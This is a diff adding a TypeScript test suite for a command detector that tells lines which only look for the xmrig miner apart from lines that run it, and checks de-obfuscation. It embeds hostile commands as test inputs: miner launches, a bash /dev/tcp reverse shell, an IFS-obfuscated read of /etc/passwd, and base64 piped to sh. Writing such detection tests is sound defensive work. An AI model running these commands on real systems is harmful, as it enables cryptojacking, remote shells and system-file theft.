@@ -1,0 +1,50 @@
+import { strict as assert } from 'node:assert';
+import { actingParts, actingText, programsOf } from '../../../shared/detection/command.ts';
+
+describe('a command line', () => {
+  const looks = [
+    'ps aux | grep -E "xmrig|minerd"',
+    'ps aux | grep -E xmrig|minerd',
+    'pgrep -f xmrig|minerd',
+    "sh -c 'ps aux | grep xmrig'",
+    'sudo /bin/ls -l /tmp/xmrig',
+    'pkill -9 xmrig; ps',
+  ];
+  for (const line of looks) {
+    it(`only looks: ${line}`, () => {
+      assert.deepEqual(programsOf(line), []);
+      assert.doesNotMatch(actingText(line), /xmrig/);
+    });
+  }
+
+  const acts: Array<[string, string]> = [
+    ['ps; ./xmrig', 'xmrig'],
+    ['grep -q x /etc/hosts && /tmp/xmrig -o a', 'xmrig'],
+    ['ls & xmrig', 'xmrig'],
+    ['true|xmrig', 'xmrig'],
+    ['grep x $(xmrig)', 'xmrig'],
+    ['grep `xmrig`', 'xmrig'],
+    ["sh -c 'cd /tmp; nohup ./xmrig'", 'xmrig'],
+    ['FOO=1 nice -n 19 timeout 5m /tmp/.x/XMRig', 'xmrig'],
+    ["grep 'a ; xmrig", 'xmrig'],
+    ['x"mri"g -o a', 'xmrig'],
+  ];
+  for (const [line, program] of acts) {
+    it(`runs something: ${line}`, () => assert.ok(programsOf(line).includes(program), String(programsOf(line))));
+  }
+
+  it('is taken apart outside of quotes alone', () => {
+    assert.deepEqual(actingParts(`echo "a; b" ; echo 'c | d' | tr a b`), [
+      'echo "a; b" ',
+      "; echo 'c | d' ",
+      '| tr a b',
+    ]);
+    assert.deepEqual(actingParts('bash -i >& /dev/tcp/h/1 0>&1'), ['bash -i >& /dev/tcp/h/1 0>&1']);
+  });
+
+  it('is read without quotes and escapes, and decoded', () => {
+    assert.match(actingText(`b''as\\h -i`), /\nbash -i/);
+    assert.match(actingText('cat$IFS/etc/passwd'), /cat \/etc\/passwd/);
+    assert.match(actingText(`echo ${Buffer.from('hidden words here').toString('base64')} | sh`), /hidden words here/);
+  });
+});
